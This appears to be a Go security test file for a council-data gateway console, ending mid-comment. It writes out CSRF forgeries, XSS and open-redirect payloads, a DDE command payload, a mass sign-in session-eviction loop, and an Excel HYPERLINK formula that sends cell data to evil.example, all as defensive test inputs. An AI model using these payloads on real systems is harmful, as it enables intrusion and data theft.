package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"sync"
	"time"

	"github.com/chromedp/chromedp"
	"mime/multipart"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/councildata/gateway/gateway/console"
)

// atkClient is a browser-like client of its own (a cookie jar) that does
// not follow redirects.
type atkClient struct {
	t    *testing.T
	base string
	http *http.Client
	csrf string // the console page's token, once signed in
}

func atkNew(t *testing.T, base string) *atkClient {
	jar, _ := cookiejar.New(nil)
	return &atkClient{t: t, base: base, http: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
}

type atkResp struct {
	status int
	header http.Header
	body   string
}

func (c *atkClient) do(req *http.Request) atkResp {
	c.t.Helper()
	resp, err := c.http.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return atkResp{resp.StatusCode, resp.Header, string(b)}
}

func (c *atkClient) req(method, path, ctype, body string, hdr map[string]string) atkResp {
	c.t.Helper()
	req, _ := http.NewRequest(method, c.base+path, strings.NewReader(body))
	if ctype != "" {
		req.Header.Set("Content-Type", ctype)
	}
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	return c.do(req)
}

var atkLoginToken = regexp.MustCompile(`name="csrf" value="([^"]+)"`)
var atkPageToken = regexp.MustCompile(`name="csrf-token" content="([^"]+)"`)

// signIn signs in with key as a browser would and reads the page's token.
func (c *atkClient) signIn(key string) *http.Cookie {
	c.t.Helper()
	page := c.req("GET", "/ui/login", "", "", nil)
	m := atkLoginToken.FindStringSubmatch(page.body)
	if m == nil {
		c.t.Fatalf("no sign-in token: %s", page.body)
	}
	r := c.req("POST", "/ui/login", "application/x-www-form-urlencoded", url.Values{"csrf": {m[1]}, "key": {key}}.Encode(), map[string]string{"Origin": c.base, "Sec-Fetch-Site": "same-origin"})
	if r.status != 303 {
		c.t.Fatalf("sign in as %s: %d %s", key, r.status, r.body)
	}
	var sc *http.Cookie
	for _, h := range r.header.Values("Set-Cookie") {
		if ck, err := http.ParseSetCookie(h); err == nil && ck.Name == console.CookieName {
			sc = ck
		}
	}
	ui := c.req("GET", "/ui/", "", "", nil)
	p := atkPageToken.FindStringSubmatch(ui.body)
	if p == nil {
		c.t.Fatalf("no page token after signing in as %s: %d %s", key, ui.status, ui.body)
	}
	c.csrf = p[1]
	return sc
}

func (c *atkClient) query(sql, purpose string, hdr map[string]string) atkResp {
	c.t.Helper()
	return c.req("POST", "/v1/query", "application/json", sqlFor(sql, purpose), hdr)
}

func (c *atkClient) download(form url.Values, hdr map[string]string) atkResp {
	c.t.Helper()
	return c.req("POST", "/ui/download", "application/x-www-form-urlencoded", form.Encode(), hdr)
}

// TestConsoleAttackConsoleCSRFHolds: every way another site (or a stolen token of
// another session) might use the cookie is refused, and runs nothing.
func TestConsoleAttackConsoleCSRFHolds(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a, b := atkNew(t, base), atkNew(t, base)
	a.signIn("demo-analyst")
	b.signIn("demo-public")
	body := sqlFor("SELECT count(*) AS n FROM std.spend_over_500", "research")
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	mw.WriteField("sql", "SELECT 1")
	mw.Close()
	refusedAPI := []struct {
		name, method, path, ctype, body string
		hdr                             map[string]string
	}{
		{"query, cookie alone", "POST", "/v1/query", "application/json", body, nil},
		{"query as text/plain", "POST", "/v1/query", "text/plain", body, nil},
		{"query as a form", "POST", "/v1/query", "application/x-www-form-urlencoded", "sql=SELECT+1", nil},
		{"query as multipart", "POST", "/v1/query", mw.FormDataContentType(), mp.String(), nil},
		{"query, token in the query string", "POST", "/v1/query?X-CSRF-Token=" + a.csrf + "&csrf=" + a.csrf, "application/json", body, nil},
		{"query, another session's token", "POST", "/v1/query", "application/json", body, map[string]string{console.CSRFHeader: b.csrf}},
		{"query, method override", "POST", "/v1/query", "application/json", body, map[string]string{"X-HTTP-Method-Override": "GET", "X-Method-Override": "GET"}},
		{"query, token in another header", "POST", "/v1/query", "application/json", body, map[string]string{"X-CSRFToken": a.csrf, "X-XSRF-Token": a.csrf}},
		{"explain", "POST", "/v1/explain", "text/plain", body, nil},
		{"policy explain", "POST", "/v1/policy/explain", "text/plain", body, nil},
		{"catalog", "GET", "/v1/catalog?purpose=research", "", "", nil},
		{"quality", "GET", "/v1/quality?purpose=research", "", "", nil},
		{"history", "GET", "/v1/history", "", "", nil},
		{"history, token in the query string", "GET", "/v1/history?X-CSRF-Token=" + a.csrf, "", "", nil},
	}
	for _, c := range refusedAPI {
		if r := a.req(c.method, c.path, c.ctype, c.body, c.hdr); r.status != 403 || !strings.Contains(r.body, "CSRF") {
			t.Errorf("%s: %d %.200s", c.name, r.status, r.body)
		}
	}
	// The console's downloads: only with the page's token in the form,
	// from the console's origin.
	form := func(token string) url.Values {
		return url.Values{"csrf": {token}, "sql": {"SELECT council, beneficiary_name FROM std.spend_over_500"}, "purpose": {"research"}, "format": {"csv"}}
	}
	refusedDownload := []struct {
		name string
		path string
		form url.Values
		hdr  map[string]string
	}{
		{"no token", "/ui/download", form(""), nil},
		{"another session's token", "/ui/download", form(b.csrf), nil},
		{"token in the query string", "/ui/download?csrf=" + url.QueryEscape(a.csrf), form(""), nil},
		{"token as a header only", "/ui/download", form(""), map[string]string{console.CSRFHeader: a.csrf}},
		{"cross-site", "/ui/download", form(a.csrf), map[string]string{"Sec-Fetch-Site": "cross-site"}},
		{"same-site, not same-origin", "/ui/download", form(a.csrf), map[string]string{"Sec-Fetch-Site": "same-site"}},
		{"another Origin", "/ui/download", form(a.csrf), map[string]string{"Origin": "http://evil.example"}},
		{"Origin null", "/ui/download", form(a.csrf), map[string]string{"Origin": "null"}},
	}
	for _, c := range refusedDownload {
		if r := a.req("POST", c.path, "application/x-www-form-urlencoded", c.form.Encode(), c.hdr); r.status == 200 || r.header.Get("Content-Disposition") != "" || strings.Contains(r.body, "edinburgh,") {
			t.Errorf("download, %s: %d %v %.200s", c.name, r.status, r.header, r.body)
		}
	}
	// GETs change nothing: no download, no sign-out by GET.
	for _, p := range []string{"/ui/download?" + form(a.csrf).Encode(), "/ui/logout?csrf=" + url.QueryEscape(a.csrf)} {
		if r := a.req("GET", p, "", "", nil); r.status != 405 {
			t.Errorf("GET %s: %d", p, r.status)
		}
	}
	// Sign-out without the token (another site's form) signs nobody out.
	if r := a.req("POST", "/ui/logout", "application/x-www-form-urlencoded", "", nil); r.status != 303 {
		t.Errorf("sign out without a token: %d", r.status)
	}
	if r := a.query("SELECT 1 AS n", "research", map[string]string{console.CSRFHeader: a.csrf}); r.status != 200 {
		t.Errorf("after a forged sign-out: %d %s", r.status, r.body)
	}
	// Authorization beside the cookie: that credential's, and a bad or
	// non-Bearer one is not rescued by the cookie.
	for _, h := range []string{"Bearer nope", "Basic eDp5", "Bearer", "Token " + "demo-analyst"} {
		if r := a.query("SELECT 1 AS n", "research", map[string]string{"Authorization": h, console.CSRFHeader: a.csrf}); r.status != 401 {
			t.Errorf("Authorization %q with the cookie: %d %s", h, r.status, r.body)
		}
	}
	// One persona's page token does not work with another's cookie: a
	// browser that signs in as another in a second tab.
	a.signIn("demo-analyst")
	old := a.csrf
	a.signIn("demo-partner")
	if r := a.query("SELECT 1 AS n", "research", map[string]string{console.CSRFHeader: old}); r.status != 403 {
		t.Errorf("the analyst tab's token with the partner's cookie: %d %s", r.status, r.body)
	}
	// Sign-in from another site (Sec-Fetch-Site) with a valid double
	// submit: refused.
	r := a.req("POST", "/ui/login", "application/x-www-form-urlencoded", "csrf=x&key=demo-governance", map[string]string{"Cookie": "gateway_login=x", "Sec-Fetch-Site": "cross-site"})
	if r.status != 403 || strings.Contains(strings.Join(r.header.Values("Set-Cookie"), ";"), console.CookieName) {
		t.Errorf("a cross-site sign-in: %d %v", r.status, r.header)
	}
}

// TestConsoleAttackConsoleSignInEndsTheSessionBefore: a browser that signs in again
// (as itself or as another persona) is given a new session; the one its
// cookie named before should end, as signing out would. It lives on for
// up to 24 hours, readable by whoever holds that earlier cookie (a shared
// or kiosk browser where the next user signs in over the last one, a
// cookie copied before).
func TestConsoleAttackConsoleSignInEndsTheSessionBefore(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	first := a.signIn("demo-analyst")
	firstToken := a.csrf
	second := a.signIn("demo-public")
	if first.Value == second.Value {
		t.Fatalf("sign-in kept the session id")
	}
	req, _ := http.NewRequest("POST", base+"/v1/query", strings.NewReader(sqlFor("SELECT count(*) AS n FROM edinburgh.payments_over_500", "research")))
	req.AddCookie(first)
	req.Header.Set(console.CSRFHeader, firstToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 401 {
		t.Errorf("the analyst's session, after the same browser signed in as the public: %d %.200s (want 401: the new sign-in should end it)", resp.StatusCode, b)
	}
}

// TestConsoleAttackConsoleOneKeyEvictsEveryone: the session store keeps 10,000
// sessions and ends the oldest beyond that, whoever's they are. Anyone
// holding any key (the public's) can sign in 10,000 times in seconds
// (the form's double-submit token is theirs to choose outside a
// browser) and so sign every other user out, over and over.
func TestConsoleAttackConsoleOneKeyEvictsEveryone(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	victim := atkNew(t, base)
	victim.signIn("demo-analyst")
	if r := victim.query("SELECT 1 AS n", "research", map[string]string{console.CSRFHeader: victim.csrf}); r.status != 200 {
		t.Fatalf("victim before: %d", r.status)
	}
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	started := time.Now()
	for i := 0; i < 10000; i++ {
		req, _ := http.NewRequest("POST", base+"/ui/login", strings.NewReader("csrf=x&key=demo-public"))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.Header.Set("Cookie", "gateway_login=x")
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 303 {
			t.Fatalf("sign-in %d: %d", i, resp.StatusCode)
		}
	}
	t.Logf("10,000 sign-ins as the public in %s", time.Since(started))
	if r := victim.query("SELECT 1 AS n", "research", map[string]string{console.CSRFHeader: victim.csrf}); r.status != 200 {
		t.Errorf("the analyst's session after the public signed in 10,000 times: %d %s (want 200: one requester should not end others' sessions)", r.status, r.body)
	}
}

// atkLog is a concurrency-safe buffer for the gateway's log.
type atkLog struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *atkLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *atkLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// TestConsoleAttackConsoleKeyNeverShown: the key a browser signs in with is in no
// page, header, cookie, URL, log line, audit record or error, for any
// persona, through sign-in (good and bad), the page, queries, downloads
// (file and error page) and sign-out.
func TestConsoleAttackConsoleKeyNeverShown(t *testing.T) {
	logs := &atkLog{}
	prev := slog.Default()
	slog.SetDefault(slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})))
	t.Cleanup(func() { slog.SetDefault(prev) })
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	var seen strings.Builder
	// The sign-in page names the demo's keys (a hint for the demo): not
	// a leak of the credential a browser signed in with.
	hint := regexp.MustCompile(`(?s)<p class="hint">.*?</p>`)
	record := func(r atkResp) {
		for k, vs := range r.header {
			seen.WriteString(k + ": " + strings.Join(vs, ", ") + "\n")
		}
		seen.WriteString(hint.ReplaceAllString(r.body, "") + "\n")
	}
	bad := atkNew(t, base)
	page := bad.req("GET", "/ui/login", "", "", nil)
	m := atkLoginToken.FindStringSubmatch(page.body)
	r := bad.req("POST", "/ui/login", "application/x-www-form-urlencoded", url.Values{"csrf": {m[1]}, "key": {"zz-wrong-key-1234"}}.Encode(), nil)
	record(r)
	if strings.Contains(seen.String()+logs.String(), "zz-wrong-key-1234") {
		t.Errorf("a refused key is shown back or logged")
	}
	for _, key := range []string{"demo-analyst", "demo-partner", "demo-public", "demo-governance"} {
		c := atkNew(t, base)
		page := c.req("GET", "/ui/login", "", "", nil)
		m := atkLoginToken.FindStringSubmatch(page.body)
		r := c.req("POST", "/ui/login", "application/x-www-form-urlencoded", url.Values{"csrf": {m[1]}, "key": {key}}.Encode(), nil)
		record(r)
		ui := c.req("GET", "/ui/", "", "", nil)
		record(ui)
		c.csrf = atkPageToken.FindStringSubmatch(ui.body)[1]
		h := map[string]string{console.CSRFHeader: c.csrf}
		purpose := map[string]string{"demo-analyst": "research", "demo-partner": "planning", "demo-public": "transparency", "demo-governance": "audit"}[key]
		record(c.req("GET", "/v1/catalog?purpose="+purpose, "", "", h))
		record(c.query("SELECT 1 AS n", purpose, h))
		record(c.query("SELECT * FROM nowhere.nothing", purpose, h))
		record(c.req("GET", "/v1/history", "", "", h))
		record(c.req("POST", "/v1/explain", "application/json", sqlFor("SELECT count(*) FROM std.spend_over_500", purpose), h))
		for _, f := range []string{"csv", "csv-bom", "parquet", "arrow"} {
			record(c.download(url.Values{"csrf": {c.csrf}, "sql": {"SELECT 1 AS n"}, "purpose": {purpose}, "format": {f}}, nil))
		}
		record(c.download(url.Values{"csrf": {c.csrf}, "sql": {"SELECT * FROM nowhere.nothing"}, "purpose": {purpose}, "format": {"csv"}}, nil))
		record(c.req("POST", "/ui/logout", "application/x-www-form-urlencoded", "csrf="+url.QueryEscape(c.csrf), nil))
		// The old cookie, after signing out.
		record(c.query("SELECT 1 AS n", purpose, h))
		record(c.download(url.Values{"csrf": {c.csrf}, "sql": {"SELECT 1 AS n"}, "purpose": {purpose}, "format": {"csv"}}, nil))
		if strings.Contains(seen.String(), key) {
			i := strings.Index(seen.String(), key)
			t.Errorf("%s is in a response: …%s…", key, seen.String()[max(0, i-200):min(len(seen.String()), i+100)])
		}
		if strings.Contains(logs.String(), key) {
			t.Errorf("%s is in the gateway's log", key)
		}
	}
	auditLog, err := os.ReadFile(filepath.Join(filepath.Dir(cfg), "audit", "audit.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"demo-analyst", "demo-partner", "demo-public", "demo-governance"} {
		if bytes.Contains(auditLog, []byte(key)) {
			t.Errorf("%s is in the audit log", key)
		}
	}
}

// TestConsoleAttackConsoleDownloadIsTheAPIs: a download is audited as the browser's
// request (door http, the browser's address as requested_by, its
// requester), is held to the API's body limit, and its error page escapes
// what the error quotes.
func TestConsoleAttackConsoleDownloadIsTheAPIs(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-analyst")
	marker := "zz_download_marker_7731"
	r := a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT 1 AS " + marker}, "purpose": {"research"}, "case_ref": {"CASE-1"}, "format": {"csv"}}, nil)
	if r.status != 200 || !strings.HasPrefix(r.body, marker) {
		t.Fatalf("download: %d %s", r.status, r.body)
	}
	if r.header.Get("X-Frame-Options") != "DENY" || r.header.Get("X-Content-Type-Options") != "nosniff" || r.header.Get("Cache-Control") != "no-store" || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Errorf("download headers: %v", r.header)
	}
	if cd := r.header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="result-\d{8}-\d{6}\.csv"$`).MatchString(cd) {
		t.Errorf("Content-Disposition %q", cd)
	}
	raw, err := os.ReadFile(filepath.Join(filepath.Dir(cfg), "audit", "audit.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, line := range strings.Split(string(raw), "\n") {
		if !strings.Contains(line, marker) {
			continue
		}
		var rec struct {
			Door, RequestedBy, Action, CaseRef, Purpose string
			Requester                                   struct{ ID string }
		}
		var m map[string]any
		json.Unmarshal([]byte(line), &m)
		rec.Door, _ = m["door"].(string)
		rec.RequestedBy, _ = m["requested_by"].(string)
		rec.Action, _ = m["action"].(string)
		rec.CaseRef, _ = m["case_ref"].(string)
		rec.Purpose, _ = m["purpose"].(string)
		if rq, ok := m["requester"].(map[string]any); ok {
			rec.Requester.ID, _ = rq["id"].(string)
		}
		found = true
		if rec.Door != "http" || !strings.HasPrefix(rec.RequestedBy, "127.0.0.1:") || rec.Requester.ID != "analyst@edinburgh" || rec.CaseRef != "CASE-1" || rec.Purpose != "research" {
			t.Errorf("the download's audit record: %+v", rec)
		}
	}
	if !found {
		t.Errorf("no audit record of the download")
	}
	// Larger than the API takes: refused as the API refuses it.
	r = a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT '" + strings.Repeat("a", 1<<20-4096) + "'"}, "purpose": {"research"}, "format": {"csv"}}, nil)
	if r.status != 413 || r.header.Get("Content-Disposition") != "" {
		t.Errorf("a download larger than the limits: %d %v", r.status, r.header)
	}
	// The error page escapes what the error quotes.
	r = a.download(url.Values{"csrf": {a.csrf}, "sql": {`SELECT * FROM "<img src=x onerror=alert(1)>"."<script>alert(2)</script>"`}, "purpose": {"research"}, "format": {"parquet"}}, nil)
	if r.status == 200 || strings.Contains(r.body, "<img src=x") || strings.Contains(r.body, "<script>alert") || r.header.Get("Content-Security-Policy") != console.ContentSecurityPolicy {
		t.Errorf("the error page of a download: %d %v %s", r.status, r.header, r.body)
	}
	r = a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT 1"}, "purpose": {"research"}, "format": {`"><script>alert(1)</script>`}}, nil)
	if r.status != 400 || strings.Contains(r.body, "<script>alert") {
		t.Errorf("a download of an unknown format: %d %s", r.status, r.body)
	}
}

// TestConsoleAttackConsoleCSVForExcelFormulas: "CSV for Excel" writes a council's
// value that starts with = (or +, -, @) as it is, so Excel, which the
// download is made for, runs it as a formula when the file is opened:
// a supplier named =HYPERLINK("https://evil.example/?"&B2,"Open") in a
// council's payments sends the row's neighbouring cells (another
// council's data, say) to that site when clicked; DDE payloads run
// commands on older Excel.
func TestConsoleAttackConsoleCSVForExcelFormulas(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-analyst")
	sql := `SELECT '=HYPERLINK("https://evil.example/?"&B2,"Open")' AS supplier, 'secret' AS b UNION ALL SELECT '+1+cmd|'' /C calc''!A0', 'x' UNION ALL SELECT '@SUM(1)', 'y' UNION ALL SELECT '-2+3', 'z'`
	r := a.download(url.Values{"csrf": {a.csrf}, "sql": {sql}, "purpose": {"research"}, "format": {"csv-bom"}}, nil)
	if r.status != 200 {
		t.Fatalf("download: %d %s", r.status, r.body)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\xEF\xBB\xBF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		if strings.ContainsAny(rec[0][:1], "=+-@") {
			t.Errorf("CSV for Excel has a cell Excel reads as a formula: %q", rec[0])
		}
	}
}

// TestConsoleAttackConsoleDownloadKeepsCSP: the file a download answers loses the
// console's Content-Security-Policy ("a file, not a page"); it would do
// no harm kept, and protects where the file is shown rather than saved
// (a browser or extension that displays text/csv inline, a proxy that
// drops Content-Disposition).
func TestConsoleAttackConsoleDownloadKeepsCSP(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-analyst")
	r := a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT '<script>alert(1)</script>' AS x"}, "purpose": {"research"}, "format": {"csv"}}, nil)
	if r.status != 200 {
		t.Fatalf("download: %d", r.status)
	}
	if csp := r.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("a download's Content-Security-Policy %q", csp)
	}
}

// TestConsoleAttackConsoleHeadersEverywhere: every answer under /ui/ and the / that
// leads there carries the console's security headers: pages, static
// files, directory listings, redirects, not-found and method-not-allowed
// answers, refused sign-ins and downloads, download error pages; and no
// redirect leaves the origin.
func TestConsoleAttackConsoleHeadersEverywhere(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-governance")
	check := func(name string, r atkResp) {
		t.Helper()
		if r.header.Get("Content-Security-Policy") != console.ContentSecurityPolicy || r.header.Get("X-Frame-Options") != "DENY" || r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d lacks the console's headers: %v", name, r.status, r.header)
		}
		if loc := r.header.Get("Location"); loc != "" {
			u, err := url.Parse(loc)
			if err != nil || u.Host != "" || u.Scheme != "" || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
				t.Errorf("%s: redirect to %q", name, loc)
			}
		}
	}
	for _, p := range []string{"/", "/ui", "/ui/", "/ui/login", "/ui/static/", "/ui/static/console.js", "/ui/static/console.css", "/ui/static/index.html", "/ui/static/nope", "/ui/static//evil.example/", "/ui/static/..%2f..%2f", "/ui//evil.example", "/ui/%2f%2fevil.example", "/ui/%5c%5cevil.example", "/ui/<b>", "/ui/logout", "/ui/download"} {
		check("GET "+p, a.req("GET", p, "", "", nil))
	}
	check("PUT /ui/login", a.req("PUT", "/ui/login", "", "", nil))
	check("DELETE /ui/", a.req("DELETE", "/ui/", "", "", nil))
	check("POST /ui/login refused", a.req("POST", "/ui/login", "application/x-www-form-urlencoded", "csrf=x", nil))
	check("POST /ui/login too large", a.req("POST", "/ui/login", "application/x-www-form-urlencoded", "csrf="+strings.Repeat("x", 1<<20), nil))
	check("POST /ui/download refused", a.req("POST", "/ui/download", "application/x-www-form-urlencoded", "csrf=x", nil))
	check("POST /ui/download error", a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT * FROM nowhere.nothing"}, "purpose": {"audit"}, "format": {"csv"}}, nil))
	if r := a.req("GET", "/ui/<b>", "", "", nil); strings.Contains(r.body, "<b>") {
		t.Errorf("the not-found page reflects markup")
	}
}

// TestConsoleAttackConsoleXSSInABrowser: markup in every value the console shows
// (column names, data values, chart labels and legend, EXPLAIN's
// statements and parameters, error messages, the history's SQL) is text:
// no element is made of it and no handler runs.
func TestConsoleAttackConsoleXSSInABrowser(t *testing.T) {
	ctx := browser(t)
	cfg, _ := demo(t, 42, true)
	// Markup in the config too: a council's name, a dataset column's
	// description (the catalog and policy reasons show them).
	raw, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Replace(string(raw), "council: The City of Edinburgh Council", `council: "<img src=x onerror=window.__xss=20>Edinburgh"`, 1)
	text = strings.Replace(text, `description: "Directorate or service that incurred the expenditure."`, `description: "<img src=x onerror=window.__xss=21><script>window.__xss=22</script>"`, 1)
	if err := os.WriteFile(cfg, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	base := start(t, cfg)
	signIn(t, ctx, base, "demo-analyst")
	waitText(t, ctx, "#tree", "std.spend_over_500")
	value(t, ctx, chromedp.Evaluate[bool](`document.querySelectorAll("#tree details").forEach((d) => d.open = true); true`))
	tree := value(t, ctx, chromedp.Text(chromedp.CSS("#tree")))
	if !strings.Contains(tree, "<img src=x onerror=window.__xss=20>Edinburgh") || !strings.Contains(tree, "<script>window.__xss=22</script>") {
		t.Errorf("the catalog does not show the config's markup as text:\n%.1500s", tree)
	}
	check := func(where string) {
		t.Helper()
		bad := value(t, ctx, chromedp.Evaluate[string](`(() => {
			const out = [];
			if (window.__xss !== undefined) out.push("window.__xss=" + window.__xss);
			document.querySelectorAll("img, iframe, object, embed, script:not([src]), #grid svg, #plan svg, #history svg, #status *, #warnings svg, foreignObject").forEach((e) => out.push(e.outerHTML.slice(0, 80)));
			document.querySelectorAll("*").forEach((e) => { for (const a of e.attributes) if (/^on/i.test(a.name) || /javascript:/i.test(a.value)) out.push(e.tagName + " " + a.name); });
			return out.join("\n");
		})()`))
		if bad != "" {
			t.Errorf("%s: markup became elements or ran:\n%s", where, bad)
		}
	}
	check("catalog")
	status := runQuery(t, ctx, `SELECT '<img src=x onerror="window.__xss=1">' AS "<svg onload=window.__xss=2>", 7 AS "<img src=y onerror=window.__xss=3>", '<script>window.__xss=4</script>' AS "</th><script>window.__xss=5</script>" UNION ALL SELECT '<iframe src=javascript:window.__xss=6>', 3, '"><svg/onload=window.__xss=7>'`)
	if !strings.HasPrefix(status, "2 rows") {
		t.Fatalf("status %q", status)
	}
	check("grid")
	head := value(t, ctx, chromedp.Text(chromedp.CSS("#grid thead")))
	if !strings.Contains(head, "<svg onload=window.__xss=2>") {
		t.Errorf("column names shown as %q", head)
	}
	do(t, ctx, js(`document.getElementById("chart-box").open = true`),
		chromedp.SetValue(chromedp.CSS("#chart-x"), "0"), chromedp.SetValue(chromedp.CSS("#chart-y1"), "1"), chromedp.Click(chromedp.CSS("#chart-draw")))
	check("bar chart")
	if legend := value(t, ctx, chromedp.TextContent(chromedp.CSS("#chart svg .legend"))); legend != "<img src=y onerror=window.__xss=3>" {
		t.Errorf("legend %q", legend)
	}
	do(t, ctx, chromedp.SetValue(chromedp.CSS("#chart-kind"), "line"), chromedp.Click(chromedp.CSS("#chart-draw")))
	check("line chart")
	do(t, ctx, chromedp.SetValue(chromedp.CSS("#sql"), `SELECT * FROM std.spend_over_500 WHERE beneficiary_name = '<img src=x onerror=window.__xss=8>' AND council <> '"><script>window.__xss=9</script>'`), chromedp.Click(chromedp.CSS("#explain")))
	waitText(t, ctx, "#plan", "Plan: ")
	check("explain")
	if s := runQuery(t, ctx, `SELECT * FROM "<img src=x onerror=window.__xss=10>"."<b>t</b>"`); !strings.Contains(s, "failed") {
		t.Errorf("status %q", s)
	}
	check("error message")
	runQuery(t, ctx, "SELECT 1 AS n") // the history is read again after a query that succeeds
	do(t, ctx, js(`document.getElementById("history-box").open = true`))
	waitText(t, ctx, "#history", "<img src=x onerror=window.__xss=10>")
	check("history")
	do(t, ctx, js(`document.getElementById("export-box").open = true; document.getElementById("sql").dispatchEvent(new Event("input"))`))
	check("snippets")
	// The error page a failed download shows.
	do(t, ctx, chromedp.SetValue(chromedp.CSS("#sql"), `SELECT * FROM "<img src=x onerror=window.__xss=11>"."<svg onload=window.__xss=12>"`),
		js(`document.getElementById("export-box").open = true`), chromedp.Click(chromedp.CSS(`#download button[value="csv"]`)))
	deadline := time.Now().Add(30 * time.Second)
	for {
		wctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		text, err := chromedp.Run(wctx, chromedp.Evaluate[string](`document.body ? document.body.innerText : ""`))
		cancel()
		if err == nil && strings.Contains(text, "The download failed") {
			if !strings.Contains(text, "<img src=x onerror=window.__xss=11>") {
				t.Errorf("the download's error page: %q", text)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("no error page for a failed download: %q %v", text, err)
		}
		time.Sleep(200 * time.Millisecond)
	}
	check("download error page")
}

// TestConsoleAttackConsoleDownloadBodyLimits: the download is held to the API's
// limits, but (1) a form over its own 1 MiB is refused as a CSRF failure
// ("did not come from this console's page"), not as too large; (2) the
// JSON it builds for the API escapes <, > and & as \u003c (six bytes
// each), so a query the API takes directly is refused (413) as a
// download.
func TestConsoleAttackConsoleDownloadBodyLimits(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-analyst")
	r := a.download(url.Values{"csrf": {a.csrf}, "sql": {"SELECT '" + strings.Repeat("a", 1<<20) + "'"}, "purpose": {"research"}, "format": {"csv"}}, nil)
	if r.status != 413 || strings.Contains(r.body, "CSRF") {
		t.Errorf("a download form over 1 MiB: %d %s (want 413, saying it is too large)", r.status, r.body[strings.Index(r.body, "<p class"):])
	}
	sql := "SELECT length('" + strings.Repeat("<&>", 80000) + "') AS n" // 240 kB
	var direct bytes.Buffer
	enc := json.NewEncoder(&direct)
	enc.SetEscapeHTML(false)
	enc.Encode(map[string]string{"sql": sql, "purpose": "research"})
	if d := a.req("POST", "/v1/query", "application/json", direct.String(), map[string]string{console.CSRFHeader: a.csrf}); d.status != 200 {
		t.Fatalf("the API directly: %d %.200s", d.status, d.body)
	}
	if r := a.download(url.Values{"csrf": {a.csrf}, "sql": {sql}, "purpose": {"research"}, "format": {"csv"}}, nil); r.status != 200 {
		t.Errorf("the same query as a download: %d %.300s (want 200: the API takes it)", r.status, r.body[strings.Index(r.body, "<p class"):])
	}
}

// TestConsoleAttackAPIJSONIsNotSniffable: the API's answers (the ones the console's
// pages read with the cookie, and its not-found answer, which echoes the
// path with HTML unescaped) carry no X-Content-Type-Options: nosniff or
// frame protection, unlike the console's.
func TestConsoleAttackAPIJSONIsNotSniffable(t *testing.T) {
	cfg, _ := demo(t, 42, true)
	base := start(t, cfg)
	a := atkNew(t, base)
	a.signIn("demo-analyst")
	for _, c := range []struct{ method, path string }{
		{"GET", "/<img src=x onerror=alert(1)>"},
		{"GET", "/v1/catalog?purpose=research"},
		{"GET", "/v1/history"},
	} {
		r := a.req(c.method, c.path, "", "", map[string]string{console.CSRFHeader: a.csrf})
		if r.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s %s: %d without nosniff (%q, body %.100s)", c.method, c.path, r.status, r.header.Get("Content-Type"), r.body)
		}
	}
}

// TestConsoleAttackHistoryReadsTheWholeLog: GET /v1/history, which the console
// calls on every page load and after every query, reads the audit log
// back until it has found the requester's last 50 requests: for a
// requester with fewer (a new or occasional one) that is the whole log,
